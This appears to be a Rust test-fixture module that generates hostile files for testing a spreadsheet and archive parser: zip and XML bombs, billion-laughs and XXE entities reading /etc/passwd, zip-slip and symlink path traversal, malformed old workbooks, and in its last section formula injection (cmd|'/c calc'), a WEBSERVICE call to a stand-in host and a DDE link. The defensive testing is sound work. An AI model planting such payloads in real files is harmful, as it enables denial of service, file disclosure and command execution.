//! The hostile files, each with what it has to give.

use super::workbooks::{head, looped, number, ods, ole, one_sector, record, rows, slow_lock, xls, xlsb, xlsx};
use super::workbooks::{xlsx_of, xlsx_with_strings};
use super::zips::{Entry, package, plain};

/// A hostile file.
pub(super) struct Hostile {
    pub(super) name: String,
    pub(super) bytes: Vec<u8>,
    /// The rules of its findings of level error, by comma; empty where it does no harm and is read.
    pub(super) gives: &'static str,
}

/// What a file of the month looks like, which no other may touch.
pub(super) const TABLE: &str = "项目名称,总投资(万元),年度计划投资(万元),累计完成投资(万元)\n";

type Case = (&'static str, Vec<u8>, &'static str);

/// All of them. `bomb` is how many bytes the bombs inflate to: more than the limits of the run.
pub(super) fn corpus(bomb: usize) -> Vec<Hostile> {
    let all = [bombs(bomb), sheets(), markup(bomb), opendocuments(), old(bomb), archives(), texts(bomb), calls_out()];
    let file = |(name, bytes, gives): Case| Hostile { name: name.to_owned(), bytes, gives };
    all.into_iter().flatten().map(file).chain(cut()).collect()
}

const X: &str = r#"<c r="A1"><v>1</v></c>"#;

/// Small files that inflate.
fn bombs(bomb: usize) -> Vec<Case> {
    let part = "xl/worksheets/sheet1.xml";
    let close = b"</t></is></c></row></sheetData></worksheet>";
    let open = b"<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>";
    let strings = |fill| Entry::bomb("xl/sharedStrings.xml", b"<sst><si><t>", fill, bomb, b"</t></si></sst>");
    let nested = (0..20).fold(plain(&[("甲.csv", TABLE.as_bytes())]), |inner, _| plain(&[("x.zip", &inner)]));
    let many: Vec<Entry> = (0..12_000).map(|nth| Entry::stored(&format!("xl/worksheets/{nth}.xml"), b"")).collect();
    vec![
        (
            "炸弹-空白.xlsx",
            xlsx_of(Entry::bomb(part, b"<worksheet>", b' ', bomb, b"</worksheet>"), "<sst/>"),
            "sheet.too_large",
        ),
        ("炸弹-一格长文.xlsx", xlsx_of(Entry::bomb(part, open, b'x', bomb, close), "<sst/>"), "sheet.too_large"),
        ("炸弹-共享文字.xlsx", xlsx_with_strings(&rows(X), strings(b'x')), "file.too_large"),
        ("炸弹-共享文字条数.xlsx", xlsx_with_strings(&rows(X), strings_without_end(bomb)), "file.too_large"),
        ("炸弹-嵌套.zip", nested, "file.too_large"),
        ("炸弹-条目.xlsx", package(&many), "file.too_large"),
        ("炸弹-压缩包.zip", package(&[Entry::bomb("甲.csv", b"", b',', bomb, b"")]), "file.too_large"),
        ("炸弹-二进制.xlsb", package(&[Entry::bomb("xl/workbook.bin", b"", 0, bomb, b"")]), "file.too_large"),
    ]
}

/// Empty shared strings, five bytes each.
fn strings_without_end(bytes: usize) -> Entry {
    let mut entry =
        Entry::stored("xl/sharedStrings.xml", format!("<sst>{}</sst>", "<si/>".repeat(bytes / 5)).as_bytes());
    entry.name = b"xl/sharedStrings.xml".to_vec();
    entry
}

/// Sheets that claim more than there is.
fn sheets() -> Vec<Case> {
    let corner = |address: &str| xlsx(&rows(&format!(r#"{X}<c r="{address}"><v>2</v></c>"#)));
    let hidden = r#"<col min="1" max="16384" hidden="1"/><col min="1" max="16383" hidden="1"/>"#.repeat(100_000);
    let merged: String = (1..=250_000).map(|row| format!(r#"<mergeCell ref="A{row}:B{row}"/>"#)).collect();
    let shared = r#"<c r="A1"><f t="shared" ref="A1:A9" si="100000000000">B1</f><v>1</v></c>"#;
    let long = format!(r#"<c r="A1" t="s"><v>0</v></c>{}"#, r#"<c t="s"><v>0</v></c>"#.repeat(20_000));
    let text = format!("<sst><si><t>{}</t></si></sst>", "长".repeat(32_000));
    vec![
        ("声称-170亿格.xlsx", corner("XFD1048576"), ""),
        ("声称-表外.xlsx", corner("XFE16777217"), ""),
        ("声称-范围.xlsx", xlsx(&format!(r#"<dimension ref="A1:XFD1048576"/>{}"#, rows(X))), ""),
        (
            "声称-万亿条文字.xlsx",
            xlsx_with_strings(
                &rows(X),
                Entry::stored(
                    "xl/sharedStrings.xml",
                    br#"<sst count="9" uniqueCount="1000000000000"><si><t>x</t></si></sst>"#,
                ),
            ),
            "",
        ),
        ("声称-共享公式.xlsx", xlsx(&rows(shared)), ""),
        ("声称-隐藏列.xlsx", xlsx(&format!("<cols>{hidden}</cols>{}", rows(X))), ""),
        ("声称-合并.xlsx", xlsx(&format!("{}<mergeCells>{merged}</mergeCells>", rows(X))), "sheet.too_large"),
        (
            "一段长文二万格.xlsx",
            xlsx_with_strings(&rows(&long), Entry::stored("xl/sharedStrings.xml", text.as_bytes())),
            "sheet.too_large",
        ),
        (
            "坏格-溢出.xlsx",
            xlsx(&rows(
                r##"<c r="A1" t="e"><v>#SPILL!</v></c><c r="B1"><v>1</v></c><c r="C1"><v>1e400</v></c><c r="D1"><v>NaN</v></c><c r="E1" t="s"><v>99</v></c>"##,
            )),
            "cell",
        ),
        ("声称-二进制170亿格.xlsb", xlsb(1_048_575, 16_383, 0), ""),
        ("声称-二进制40亿条文字.xlsb", xlsb(9, 9, 0xFFFF_FFFF), "file"),
    ]
}

/// Markup that means to be more than it is.
fn markup(bomb: usize) -> Vec<Case> {
    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let with = |doctype: &str, cell: &str| {
        let text = format!("<?xml version=\"1.0\"?><!DOCTYPE x [{doctype}]><worksheet>{}</worksheet>", rows(cell));
        xlsx_of(Entry::stored("xl/worksheets/sheet1.xml", text.as_bytes()), "<sst/>")
    };
    let cell = |text: &str| format!(r#"<c r="A1" t="inlineStr"><is><t>{text}</t></is></c>"#);
    let deep = |tag: &str, times: usize| format!("<{tag}>").repeat(times);
    let spans = format!("<table><tr>{}</tr></table>", "<td colspan=1000 rowspan=1048576>x".repeat(3_000));
    let outside = r#"<Relationships><Relationship Id="r1" Type="x/worksheet" Target="../../../../../../etc/passwd"/></Relationships>"#;
    let book = r#"<workbook xmlns:r="x"><sheets><sheet name="表" r:id="r1"/></sheets></workbook>"#;
    vec![
        ("实体-十亿笑.xlsx", with(&format!("<!ENTITY l0 \"哈\">{laughs}"), &cell("&l9;")), ""),
        ("实体-外部.xlsx", with("<!ENTITY x SYSTEM \"file:///etc/passwd\">", &cell("&x;")), ""),
        ("实体-外部.ods", ods("<table:table-row><table:table-cell><text:p>&x;</text:p></table:table-cell></table:table-row>"), ""),
        ("嵌套-百万层.xlsx", xlsx(&deep("a", 300_000)), ""),
        ("嵌套-百万层.ods", ods(&deep("table:table-row-group", 200_000)), ""),
        ("嵌套-百万层.xls", format!("<html>{}", deep("table", 300_000)).into_bytes(), "file"),
        ("嵌套-百万层.xml.xls", format!("<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\">{}", deep("Worksheet", 100_000)).into_bytes(), "file"),
        ("网页-跨列.xls", format!("<html>{spans}{}</html>", "<table><tr><td>x</td></tr></table>".repeat(bomb / 3_000)).into_bytes(), "file.stopped"),
        ("关系-指向系统文件.xlsx", plain(&[("[Content_Types].xml", b"<x/>"), ("xl/workbook.xml", book.as_bytes()), ("xl/_rels/workbook.xml.rels", outside.as_bytes())]), "sheet"),
    ]
}

fn opendocuments() -> Vec<Case> {
    let cell = |text: &str, repeated: u64| {
        format!(
            r#"<table:table-cell table:number-columns-repeated="{repeated}" office:value-type="string"><text:p>{text}</text:p></table:table-cell>"#
        )
    };
    let row = |cells: &str, repeated: u64| {
        format!(r#"<table:table-row table:number-rows-repeated="{repeated}">{cells}</table:table-row>"#)
    };
    vec![
        ("无尽-170亿格.ods", ods(&row(&cell("x", 16_384), 1_048_576)), "file.too_large"),
        ("无尽-长文.ods", ods(&row(&cell(&"长".repeat(300_000), 16_384), 1)), "file.too_large"),
        ("无尽-空格.ods", ods(&row(&cell(r#"x<text:s text:c="2000000000"/>y"#, 1), 1)), ""),
        (
            "无尽-空行.ods",
            ods(&format!("{}{}", row(&cell("x", 1), 1), row("<table:table-cell/>", u64::from(u32::MAX)))),
            "",
        ),
    ]
}

/// Old workbooks, whose containers and records lead astray.
fn old(bomb: usize) -> Vec<Case> {
    // As many cells as that format can hold: more than the short test allows, less than the program does.
    let two_corners = if bomb > 100 << 20 { "" } else { "file.too_large" };
    let stream = vec![0u8; 9_000];
    let whole = || ole("/Workbook", &stream);
    let dimensions = record(0x200, &[0, 0, 0, 0, 255, 255, 255, 255, 0, 0, 255, 255, 0, 0]);
    let strings = record(0xFC, &[255; 8]);
    let locked = include_bytes!("../../data/locked_agile.xlsx");
    let string = record(
        0xFC,
        &[&1u32.to_le_bytes()[..], &1u32.to_le_bytes(), &[0xFF, 0xFF, 0x0D, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x7F]]
            .concat(),
    );
    vec![
        ("旧-链环.xls", looped(whole()), "file"),
        ("旧-一千字节.xls", one_sector(), "file"),
        ("旧-目录链环.xls", head(whole(), 48, 0), "file"),
        ("旧-表数.xls", head(whole(), 44, 0xFFFF_FFFF), "file"),
        ("旧-扇区大小.xls", head(whole(), 30, 0x0006_00FF), "file"),
        ("旧-小扇区.xls", head(whole(), 60, 0), "file"),
        ("旧-链表.xls", head(whole(), 68, 0), "file"),
        ("旧-范围.xls", xls(&[], &[dimensions, number(0, 0, 1.0)]), ""),
        ("旧-两角.xls", xls(&[], &[number(0, 0, 1.0), number(65_535, 255, 2.0)]), two_corners),
        ("旧-40亿条文字.xls", xls(&[strings], &[number(0, 0, 1.0)]), ""),
        ("旧-文字越界.xls", xls(&[string], &[number(0, 0, 1.0)]), "file"),
        ("旧-慢锁.xlsx", slow_lock(locked), "file.encrypted"),
        ("旧-大流.xls", ole("/Workbook", &vec![0; bomb.min(8 << 20)]), "file"),
    ]
}

/// Archives whose names lead out of them.
fn archives() -> Vec<Case> {
    let table = TABLE.as_bytes();
    let link = Entry { attributes: 0o120_777 << 16, ..Entry::stored("链接.csv", b"/etc/passwd") };
    let wrong = Entry { sum: 1, ..Entry::stored("甲.csv", table) };
    let lying = Entry { size: 3, ..Entry::stored("甲.csv", table) };
    let long = "长".repeat(10_000);
    let twice = package(&[Entry::stored("甲.csv", table), Entry::stored("甲.csv", b"x,y\n1,2\n")]);
    vec![
        ("包-上级.zip", plain(&[("../../../../tmp/wuzhang-escaped.csv", table)]), ""),
        ("包-绝对.zip", plain(&[("/tmp/wuzhang-escaped.csv", table), ("C:\\Windows\\甲.csv", table)]), ""),
        ("包-链接.zip", package(&[link]), ""),
        ("包-万字名.zip", plain(&[(&long, table)]), ""),
        ("包-控制字符.zip", plain(&[("甲\u{1b}[2J\r\n\0乙.csv", table)]), ""),
        ("包-同名.zip", twice, ""),
        ("包-校验和.zip", package(&[wrong]), "file.unreadable"),
        ("包-长度.zip", package(&[lying]), "file.unreadable"),
        ("包-无目录.zip", b"PK\x05\x06\0\0\0\0\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\0\0".to_vec(), "file"),
    ]
}

fn texts(bomb: usize) -> Vec<Case> {
    let mail = "From: a@b.example\r\nTo: c@d.example\r\nMIME-Version: 1.0\r\n";
    let nested: String =
        (0..3_000).map(|n| format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n")).collect();
    let many =
        "--b\r\nContent-Type: text/csv; name=x.csv\r\nContent-Disposition: attachment\r\n\r\nx,y\r\n".repeat(2_000);
    let forwarded = "Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nTo: c@d.example\r\n".repeat(5_000);
    vec![
        ("文本-一行.csv", ",".repeat((bomb * 3 / 2).min(200 << 20)).into_bytes(), "file.stopped"),
        ("文本-引号.csv", [b"\"".to_vec(), vec![b'x'; 2_000_000]].concat(), ""),
        ("文本-空字节.csv", [b"a,b\n".to_vec(), vec![0; 100_000]].concat(), "file"),
        ("邮件-嵌套.eml", format!("{mail}{nested}").into_bytes(), "file"),
        (
            "邮件-附件.eml",
            format!("{mail}Content-Type: multipart/mixed; boundary=b\r\n\r\n{many}--b--\r\n").into_bytes(),
            "file.too_large",
        ),
        ("邮件-转发.eml", format!("{mail}{forwarded}").into_bytes(), "file"),
    ]
}

/// What would call a program or a server, if anybody listened.
fn calls_out() -> Vec<Case> {
    let formulas = r#"<c r="A1" t="str"><f>cmd|'/c calc'!A0</f><v>甲</v></c><c r="B1" t="str"><f>WEBSERVICE("http://x.example/?"&amp;A1)</f><v>乙</v></c><c r="C1"><f>[1]Sheet1!A1</f><v>3</v></c>"#;
    let mut macros = vec![Entry::stored("xl/vbaProject.bin", &ole("/VBA", b"Sub AutoOpen()"))];
    macros.push(Entry::stored(
        "xl/externalLinks/externalLink1.xml",
        b"<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
    ));
    let sheet = format!("<worksheet>{}</worksheet>", rows(formulas));
    macros.extend(super::workbooks::parts_around(Entry::stored("xl/worksheets/sheet1.xml", sheet.as_bytes())));
    vec![("外呼-公式.xlsx", xlsx(&rows(formulas)), ""), ("外呼-宏.xlsm", package(&macros), "")]
}

/// A sound workbook cut short at every tenth of it, and with single bytes bent.
fn cut() -> impl Iterator<Item = Hostile> {
    let sound = xlsx(&rows(&r#"<c t="inlineStr"><is><t>项目</t></is></c>"#.repeat(200)));
    let bent = sound.clone();
    let short = (1..10).map(move |tenth| {
        let bytes = sound[..sound.len() * tenth / 10].to_vec();
        Hostile { name: format!("截断-{tenth}.xlsx"), bytes, gives: "file" }
    });
    short.chain((0..1).map(move |_| {
        let mut bytes = bent.clone();
        let at = bytes.len() / 2;
        bytes[at] ^= 0x20;
        Hostile { name: "校验和.xlsx".into(), bytes, gives: "sheet.unreadable" }
    }))
}
